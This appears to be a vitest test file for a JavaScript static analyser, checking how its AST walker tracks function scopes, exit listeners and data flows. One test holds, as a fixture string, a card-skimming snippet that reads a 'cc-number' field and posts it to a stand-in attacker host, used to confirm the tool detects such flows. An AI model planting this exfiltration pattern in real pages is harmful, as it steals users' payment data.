import { describe, expect, test } from 'vitest';
import { Facts } from './facts.js';
import { parseSource } from './parse.js';
import { VisitorMap, walkProgram } from './walk.js';
import { ProgramModel } from '../helpers/model.js';

function walkWith(code: string, listeners: Record<string, (facts: Facts, node: any, parent: any) => void>) {
  const facts = new Facts(false);
  const v = new VisitorMap();
  for (const [sel, fn] of Object.entries(listeners)) v.add(sel, (n, p) => fn(facts, n, p));
  walkProgram(parseSource(code).ast as any, facts, v);
  return facts;
}

describe('the walk keeps the facts in step with the node visited', () => {
  test('enter listeners see the innermost function, and its parent again after it', () => {
    const seen: Array<[string, string | null]> = [];
    const name = (f: Facts) => f.fn?.node.id?.name ?? (f.fn ? 'anon' : null);
    walkWith("'a'; function f() { 'b'; var g = function g2() { 'c'; }; 'd'; } 'e'; (() => 'f')(); 'g';", {
      Literal: (f, n) => seen.push([n.value, name(f)]),
    });
    expect(seen).toEqual([['a', null], ['b', 'f'], ['c', 'g2'], ['d', 'f'], ['e', null], ['f', 'anon'], ['g', null]]);
  });

  test('exit listeners run while the node\'s own function is still open', () => {
    const exits: Array<[string, string | null]> = [];
    const facts = walkWith('function outer() { function inner() { return 1; } return inner; } var x = 1;', {
      'FunctionDeclaration:exit': (f, n) => exits.push([n.id.name, f.fn?.node.id?.name ?? null]),
      'VariableDeclaration:exit': (f, n) => exits.push([n.kind, f.fn?.node.id?.name ?? null]),
    });
    expect(exits).toEqual([['inner', 'inner'], ['outer', 'outer'], ['var', null]]);
    expect(facts.fn).toBeNull();
    expect(facts.scope).toBe(facts.global);
  });

  test('Program:exit runs once, after the walk, with the global scope', () => {
    let calls = 0;
    walkWith('function f() { g(); }', {
      'Program:exit': (f) => {
        calls++;
        expect(f.fn).toBeNull();
        expect(f.scope).toBe(f.global);
        expect(f.calls.length).toBe(1);
      },
    });
    expect(calls).toBe(1);
  });

  test('values flow out of frames the same with and without exit listeners', () => {
    const code = "var n = document.getElementById('cc-number').value; var d = {a: n}; for (const k of [d]) { x.push(k); } fetch('https://evil.example/c', {method: 'POST', body: JSON.stringify(d)});";
    const flows = (listeners: Record<string, any>) => {
      const m = new ProgramModel(walkWith(code, listeners));
      return m.flows().map((f) => [f.sink.api, f.card?.source.how ?? null]);
    };
    const plain = flows({});
    expect(plain).toEqual([['fetch', "getElementById('cc-number')"]]);
    expect(flows({ 'CallExpression:exit': () => {}, 'AssignmentExpression:exit': () => {}, 'VariableDeclarator:exit': () => {} })).toEqual(plain);
  });

  test('assignment targets are not reads; what follows them is', () => {
    const code = "a.b[c] = d; e = f + g;";
    const facts = walkWith(code, {});
    facts.resolveEdges();
    const names = (n: string) => facts.global.vars.get(n);
    // d, f and g are read (they flow into an assignment), a and c are not
    expect(names('d')).toBeDefined();
    expect(names('f')).toBeDefined();
    expect(names('g')).toBeDefined();
    expect(names('c')).toBeUndefined();
  });
});
